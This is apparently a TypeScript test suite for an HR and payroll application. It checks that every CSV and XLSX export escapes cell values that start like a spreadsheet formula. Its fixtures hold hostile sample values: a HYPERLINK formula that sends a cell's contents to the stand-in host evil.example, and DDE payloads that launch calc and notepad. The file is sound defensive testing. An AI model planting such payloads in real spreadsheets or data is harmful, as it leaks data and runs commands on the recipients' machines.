/**
 * Files the product writes and receives. Every CSV and XLSX it writes (the reports, their
 * scheduled e-mails, the employee and payroll exports) holds a name a spreadsheet would run as a
 * formula as inert text; leave attachments are bounded per employee and removed when no request
 * uses them.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { ScheduledReportsJob } from '../src/modules/reports/schedule/scheduled-reports.job';
import { createTestApp, type TestApp } from './support/app';
import { bearer, createCompany, type CompanyFixture } from './support/fixtures';

const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"John")';
/** Names that start like a formula, one per kind of lead character. */
const DEPARTMENT = '@SUM(1+1)*cmd|" /C calc"!A0';
const LEAVE_TYPE = '+cmd|" /C notepad"!A0';
const POSITION = '-2+3+cmd|" /C calc"!A0';

const binary = (res: any, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** A CSV cell a spreadsheet would run: a formula lead, and not a figure such as -12.50 or +1 555 0100. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s().,-]*$/.test(cell);

describe('files the product writes and receives', () => {
  let t: TestApp;
  let a: CompanyFixture;
  let admin: Record<string, string>;
  const sql = (query: string, params: unknown[] = []) => t.em().execute(query, params);

  beforeAll(async () => {
    t = await createTestApp();
    a = await createCompany(t, 'Files');
    admin = bearer(a.tokens.company_admin);
    const c = a.company.id;
    await sql(`update employees set first_name = ?, salary = '60000.00', hire_date = '2024-01-01' where id = ?`, [PAYLOAD, a.employee.id]);
    await sql(`update departments set department_name = ? where id = ?`, [DEPARTMENT, a.department.id]);
    await sql(`update positions set position_title = ? where id = ?`, [POSITION, a.position.id]);
    await sql(`insert into leave_types (company_id, type_name, type_code, max_days_per_year) values (?, ?, 'EV', 20)`, [c, LEAVE_TYPE]);
    await sql(`insert into attendance_records (company_id, employee_id, attendance_date, status, work_hours) values (?, ?, '2026-03-02', 'present', '8.00')`, [
      c,
      a.employee.id,
    ]);
    const payroll = await t.http().post('/api/hr/payroll').set(admin).send({ year: 2026, month: 3 });
    expect(payroll.status).toBe(201);
  });

  afterAll(() => t?.close());

  describe('formula injection', () => {
    /** Every cell of a CSV, its header too. */
    const csvCells = (text: string): string[] => (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
    const expectInert = (where: string, cells: string[]) => {
      expect({ where, live: cells.filter(live) }).toEqual({ where, live: [] });
    };

    it('writes no live formula in any report, as CSV or XLSX, whatever the grouping', async () => {
      const list = await t.http().get('/api/reports').set(admin);
      expect(list.status).toBe(200);
      const reports: { id: string; group_by_options: { id: string }[] }[] = list.body.data;
      expect(reports.length).toBeGreaterThan(5);
      const seen = new Set<string>();
      for (const r of reports) {
        const groupings = r.group_by_options.length ? r.group_by_options.map((g) => g.id) : [undefined];
        for (const group_by of groupings) {
          const query = { from: '2026-01-01', to: '2026-12-31', at: '2026-06-01', ...(group_by ? { group_by } : {}) };
          const where = `${r.id}${group_by ? ` by ${group_by}` : ''}`;
          const csv = await t.http().get(`/api/reports/${r.id}/export`).query({ ...query, format: 'csv' }).set(admin);
          expect({ where, status: csv.status }).toEqual({ where, status: 200 });
          const cells = csvCells(csv.text);
          expectInert(`${where} (csv)`, cells);
          for (const cell of cells) if (/HYPERLINK|cmd\|/.test(cell)) seen.add(cell);

          const xlsx = await t.http().get(`/api/reports/${r.id}/export`).query({ ...query, format: 'xlsx' }).set(admin).buffer(true).parse(binary);
          expect({ where, status: xlsx.status }).toEqual({ where, status: 200 });
          const book = new ExcelJS.Workbook();
          await book.xlsx.load(xlsx.body);
          book.eachSheet((sheet) =>
            sheet.eachRow((row) =>
              row.eachCell((cell) => {
                // a text that looks like a formula is stored as text, never as a formula
                expect({ where: `${where} (xlsx) ${cell.address}`, formula: cell.formula ?? null }).toEqual({ where: `${where} (xlsx) ${cell.address}`, formula: null });
                if (typeof cell.value === 'string' && /HYPERLINK/.test(cell.value)) expect(cell.type).toBe(ExcelJS.ValueType.String);
              }),
            ),
          );
        }
      }
      // the names did reach the files, guarded with a leading apostrophe
      expect(seen).toContain(`'${PAYLOAD} Files (E001)`);
      expect([...seen].some((cell) => cell === `'${DEPARTMENT}`)).toBe(true);
      expect([...seen].some((cell) => cell === `'${LEAVE_TYPE}`)).toBe(true);
    });

    it('keeps figures as figures: money and negative amounts are not guarded', async () => {
      const csv = await t.http().get('/api/reports/payroll-cost/export').query({ from: '2026-03-01', to: '2026-03-31', format: 'csv' }).set(admin);
      const rows: string[][] = parse(csv.text, { bom: true });
      expect(rows[1].slice(-1)[0]).toMatch(/^\d+\.\d{2}$/);
    });

    it('sends the scheduled e-mail attachment inert', async () => {
      const created = await t.http().post('/api/reports/subscriptions').set(admin).send({
        report_id: 'leave-balances',
        frequency: 'monthly',
        format: 'csv',
        recipients: [a.admin.email],
        group_by: 'employee',
      });
      expect(created.status).toBe(201);
      await sql(`update report_subscriptions set next_run_at = '2026-03-01T07:00:00Z' where id = ?`, [created.body.data.id]);
      const result = await t.app.get(ScheduledReportsJob).run(new Date('2026-03-01T07:10:00Z'));
      expect(result.sent).toBeGreaterThanOrEqual(1);
      const [notice] = await sql(
        `select convert_from(attachment, 'UTF8') as file from notifications where topic = 'reports' and user_id = ? and attachment_name like 'leave-balances%'`,
        [a.admin.id],
      );
      const cells = csvCells(notice.file);
      expectInert('scheduled leave balances', cells);
      expect(cells).toContain(`'${PAYLOAD} Files (E001)`);
    });

    it('exports employees and payroll inert', async () => {
      const employees = await t.http().get('/api/hr/employees/export').set(admin);
      expect(employees.status).toBe(200);
      const cells = csvCells(employees.text);
      expectInert('employees', cells);
      expect(cells).toContain(`'${PAYLOAD}`);
      expect(cells).toContain(`'${DEPARTMENT}`);
      expect(cells).toContain(`'${POSITION}`);

      const payroll = await t.http().get('/api/hr/payroll/export').query({ year: 2026, month: 3 }).set(admin);
      expect(payroll.status).toBe(200);
      const rows: string[][] = parse(payroll.text, { bom: true });
      expectInert('payroll', rows.flat());
      expect(rows[1][1]).toBe(`'${PAYLOAD} Files`);
      expect(rows[1][2]).toBe(`'${DEPARTMENT}`);
      expect(rows[1][5]).toMatch(/^\d+\.\d{2}$/);
    });
  });
});
